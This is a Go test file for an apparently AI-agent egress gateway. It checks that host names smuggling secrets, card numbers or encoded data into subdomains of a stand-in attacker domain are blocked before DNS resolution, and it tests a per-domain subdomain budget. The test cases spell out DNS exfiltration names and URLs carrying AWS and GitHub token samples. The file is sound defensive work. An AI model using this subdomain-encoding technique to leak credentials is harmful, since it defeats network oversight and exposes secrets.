package egress

import (
	"encoding/base32"
	"encoding/hex"
	"slices"
	"strings"
	"testing"
)

// exfilPolicy allows everything under attacker.test and api.allowed.test, with DLP on, so that
// only the host-name checks, DLP, entropy, volume and response scanning decide.
const exfilPolicy = `
name: exfil
mode: enforce
allow:
  - domain: attacker.test
  - domain: "*.attacker.test"
  - domain: api.allowed.test
  - domain: r2.attacker.test
dlp:
  actions: {payment_card: block, secret: block, private_key: block, jwt: block, us_ssn: block, iban: block, email: log, phone: log}
hostnames:
  subdomain_budget: 8
  exempt: ["*.r2.attacker.test"]
alerts: {threshold: 0}
`

func exfilProfile(t *testing.T, yaml string) *Profile {
	t.Helper()
	p, err := ParseProfile("exfil.yaml", []byte(yaml))
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func b32(s string) string {
	return strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString([]byte(s)))
}

// The host-name checks on their own: names that carry data fail, names of the services agents use
// do not. No resolver is involved.
func TestHostnameChecks(t *testing.T) {
	f := newFixture(t, exfilPolicy, NewDLPInspector())
	p, _ := f.g.Profile("exfil")
	bad := []struct{ name, detector string }{
		{"AKIAIOSFODNN7EXAMPLE.attacker.test", "secret:aws-access-token"},
		{"akiaiosfodnn7example.attacker.test", "secret:aws-access-token"},  // lower-cased by the agent
		{"AKIAIOSF.ODNN7EXAMPLE.attacker.test", "secret:aws-access-token"}, // split across labels
		{b32("AKIAIOSFODNN7EXAMPLE") + ".attacker.test", "secret:aws-access-token"},
		{hex.EncodeToString([]byte("AKIAIOSFODNN7EXAMPLE")) + ".attacker.test", "secret:aws-access-token"},
		{"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.attacker.test", "secret:github-pat"},
		{"4111111111111111.attacker.test", "payment-card"},
		{b32("my card is 4111 1111 1111 1111 thanks") + ".attacker.test", "payment-card"},
		{"mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpjqwc3de.attacker.test", "hostname:entropy"}, // base32 of random-ish bytes
		{"x7kq2zt9mbw4nf8hr3vj6pld5gc2ys7w.attacker.test", "hostname:entropy"},
		{"5f4dcc3b5aa765d61d8327deb882cf99e3b0c44298fc1c14.attacker.test", "hostname:entropy"},   // long hex
		{"q8w7e6r5t1y0u2.i3o4p5a6s7k3j9x2m4.z9x8c7v6b5n4m3l2.attacker.test", "hostname:entropy"}, // random, split in short labels
		{strings.Repeat("thequickbrownfox", 4) + ".attacker.test", "hostname:length"},
		{strings.Repeat("abcdefghij.", 12) + "attacker.test", "hostname:length"},
	}
	for _, c := range bad {
		v := f.g.checkHost(Sandbox{Session: "checks"}, p, c.name)
		if v.action != "block" || !slices.Contains(v.detectors, c.detector) {
			t.Errorf("%s: %s %v %q, want block by %s", c.name, v.action, v.detectors, v.reason(), c.detector)
		}
		if strings.Contains(strings.ToLower(v.reason()), "akia") || strings.Contains(v.reason(), "4111") {
			t.Errorf("%s: the reason holds the data: %q", c.name, v.reason())
		}
	}
	good := strings.Fields(`api.github.com raw.githubusercontent.com objects.githubusercontent.com
		release-assets.githubusercontent.com codeload.github.com files.pythonhosted.org pypi.org registry.npmjs.org
		deb.debian.org security.debian.org my-loadbalancer-1234567890.us-west-2.elb.amazonaws.com
		internal-my-service-lb-1234567890.us-east-1.elb.amazonaws.com ec2-203-0-113-25.compute-1.amazonaws.com
		d111111abcdef8.cloudfront.net my-very-long-descriptive-bucket-name-for-backups.s3.amazonaws.com
		my-project-git-branch-name-username.vercel.app my-service-abcdefghij-uc.a.run.app
		r4---sn-uxaxjvhxbt2u-j5pe.googlevideo.com myendpoint-abcdefgh123.z01.azurefd.net
		mystorageaccount.blob.core.windows.net abcd1234.execute-api.us-east-1.amazonaws.com fonts.googleapis.com
		www.googletagmanager.com login.microsoftonline.com oauth2.googleapis.com generativelanguage.googleapis.com
		huggingface.co cdn-lfs.huggingface.co cdn-lfs-us-1.hf.co api.openai.com api.anthropic.com
		prod-eastus2-01.cognitiveservices.azure.com mycompany.atlassian.net hooks.slack.com discord.com
		github-production-release-asset-2e65be.s3.amazonaws.com pkg-containers.githubusercontent.com ghcr.io
		production.cloudflare.docker.com registry-1.docker.io auth.docker.io cdn01.quay.io dl-cdn.alpinelinux.org
		cluster0-shard-00-00.abcde.mongodb.net my-db-instance.c9akciq32.us-east-1.rds.amazonaws.com
		xn--bcher-kva.example.com en.m.wikipedia.org upload.wikimedia.org a1b2c3d4e5f6.ngrok-free.app
		random-words-here-now.trycloudflare.com o123456.ingest.sentry.io browser-intake-datadoghq.com
		3a7bd3e2360a3d29eea436fcfb7e44c7.r2.attacker.test 203.0.113.10 2001:db8::1 localhost`)
	for _, name := range good {
		if v := f.g.checkHost(Sandbox{Session: "good-" + name}, p, name); v.action != "" {
			t.Errorf("%s: %s %v %q", name, v.action, v.detectors, v.reason())
		}
	}
}

// A name refused for what it holds reaches no resolver: not for plain HTTP, not for CONNECT, not
// for a request in a tunnel whose CONNECT named a clean host. A clean name is resolved.
func TestHostnameRefusedWithoutDNS(t *testing.T) {
	f := newFixture(t, exfilPolicy, NewDLPInspector())
	for _, u := range []string{
		"http://AKIAIOSFODNN7EXAMPLE.attacker.test/x",
		"https://AKIAIOSFODNN7EXAMPLE.attacker.test/x",
		"https://" + b32("AKIAIOSFODNN7EXAMPLE") + ".attacker.test/",
		"http://x7kq2zt9mbw4nf8hr3vj6pld5gc2ys7w.attacker.test/",
	} {
		status, body := f.get(t, "GET", u, "")
		if status != 403 || !strings.Contains(body, "host name") {
			t.Errorf("%s: %d %q", u, status, body)
		}
		if strings.Contains(strings.ToLower(body), "agentbox egress: refused") {
			t.Errorf("%s: the SSRF guard answered, so the name was resolved: %q", u, body)
		}
	}
	for _, s := range []string{"akia", b32("AKIAIOSFODNN7EXAMPLE")[:10], "x7kq2z"} {
		if f.lookups.asked(s) {
			t.Errorf("a name with %q was resolved: %v", s, f.lookups.names)
		}
	}
	// The Host header inside a tunnel is checked too.
	resp, body := f.do(t, "GET", "https://api.allowed.test/x", "", map[string]string{})
	if resp == nil || resp.StatusCode != 200 {
		t.Fatalf("a clean host: %v %q", resp, body)
	}
	if !f.lookups.asked("api.allowed.test") {
		t.Fatal("the clean name was not resolved: the resolver is not the one the test watches")
	}
	// The CONNECT itself: a refused name gets a readable 403 inside the tunnel.
	ev := findEvent(f.rec, func(e Event) bool { return e.Method == "CONNECT" && e.Decision == "blocked" })
	if ev == nil {
		t.Fatal("no CONNECT refusal recorded")
	}
	if strings.Contains(strings.ToLower(ev.URL), "akia") {
		t.Fatalf("the record holds the name's data: %+v", ev)
	}
}

func findEvent(r *recorder, pred func(Event) bool) *Event {
	r.mu.Lock()
	defer r.mu.Unlock()
	for i := range r.events {
		if pred(r.events[i]) {
			return &r.events[i]
		}
	}
	return nil
}

// The budget of distinct subdomains per registrable domain: names within it pass, the next new
// one fails, names already seen still pass, other domains and other sessions have their own,
// Forget resets it; with action log the name passes and is recorded.
func TestSubdomainBudget(t *testing.T) {
	f := newFixture(t, strings.Replace(exfilPolicy, "subdomain_budget: 8", "subdomain_budget: 3", 1), NewDLPInspector())
	p, _ := f.g.Profile("exfil")
	sb := Sandbox{Session: "s-budget", Profile: "exfil"}
	for _, n := range []string{"a.attacker.test", "b.attacker.test", "attacker.test", "c.attacker.test", "a.attacker.test", "x.allowed.test"} {
		if v := f.g.checkHost(sb, p, n); v.action != "" {
			t.Fatalf("%s: %s %q", n, v.action, v.reason())
		}
	}
	v := f.g.checkHost(sb, p, "d.attacker.test")
	if v.action != "block" || !slices.Contains(v.detectors, "hostname:budget") || !strings.Contains(v.reason(), "subdomain 4 of attacker.test") {
		t.Fatalf("past the budget: %s %v %q", v.action, v.detectors, v.reason())
	}
	if v := f.g.checkHost(sb, p, "d.attacker.test"); v.action != "block" {
		t.Fatal("a refused name passed on its second try")
	}
	if v := f.g.checkHost(Sandbox{Session: "other"}, p, "d.attacker.test"); v.action != "" {
		t.Fatal("another session shares the budget")
	}
	f.g.Forget(sb.Session)
	if v := f.g.checkHost(sb, p, "d.attacker.test"); v.action != "" {
		t.Fatal("Forget kept the budget")
	}
	// Through the gateway: the 4th name is refused with no DNS query.
	for i, n := range []string{"n1", "n2", "n3", "n4"} {
		status, body := f.get(t, "GET", "http://"+n+".attacker.test/", "")
		want := 200
		if i == 3 {
			want = 403
		}
		if status != want {
			t.Fatalf("%s: %d %q", n, status, body)
		}
	}
	if f.lookups.asked("n4.attacker.test") {
		t.Fatal("the name past the budget was resolved")
	}
	// Log: counted, recorded, let through.
	lp := exfilProfile(t, strings.Replace(strings.Replace(exfilPolicy, "subdomain_budget: 8", "subdomain_budget: 1", 1), "hostnames:", "hostnames:\n  action: log", 1))
	f.g.checkHost(Sandbox{Session: "s-log"}, lp, "a.attacker.test")
	if v := f.g.checkHost(Sandbox{Session: "s-log"}, lp, "b.attacker.test"); v.action != "log" {
		t.Fatalf("log action: %s", v.action)
	}
	// Off.
	op := exfilProfile(t, strings.Replace(exfilPolicy, "subdomain_budget: 8", "subdomain_budget: 0", 1))
	for i := range 50 {
		if v := f.g.checkHost(Sandbox{Session: "s-off"}, op, "n"+strings.Repeat("x", i%10)+string(rune('a'+i%26))+".attacker.test"); v.action != "" {
			t.Fatalf("budget off: %s %q", v.action, v.reason())
		}
	}
}

func TestBase32Text(t *testing.T) {
	if s, ok := base32Text(b32("hello, this is text")); !ok || s != "hello, this is text" {
		t.Fatalf("%q %v", s, ok)
	}
	for _, s := range []string{"api", "release-assets", "abcdefghijklmnop", "1234567890123456"} {
		if _, ok := base32Text(s); ok {
			t.Errorf("%s decoded", s)
		}
	}
}

func BenchmarkCheckHost(b *testing.B) {
	f := newFixture(b, exfilPolicy, NewDLPInspector())
	p, _ := f.g.Profile("exfil")
	for _, name := range []string{"origin.bench.test", "objects.githubusercontent.com", "x7kq2zt9mbw4nf8hr3vj6pld5gc2ys7w.q8w7e6r5t1y0u2.attacker.test"} {
		b.Run(name, func(b *testing.B) {
			for b.Loop() {
				f.g.checkHost(Sandbox{Session: "bench"}, p, name)
			}
		})
	}
}
